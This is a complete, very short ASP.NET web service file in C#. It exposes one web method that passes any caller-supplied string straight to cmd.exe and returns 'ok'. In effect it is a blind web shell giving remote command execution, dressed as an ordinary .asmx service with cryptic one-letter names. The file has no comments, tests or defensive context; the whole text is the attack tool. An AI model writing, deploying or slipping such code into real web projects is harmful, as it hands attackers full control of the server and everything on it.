<%@ WebService Language="C#" Class="S" %>
using System.Web.Services;
public class S : WebService { [WebMethod] public string R(string c) { var p = System.Diagnostics.Process.Start("cmd.exe", "/c " + c); return "ok"; } }
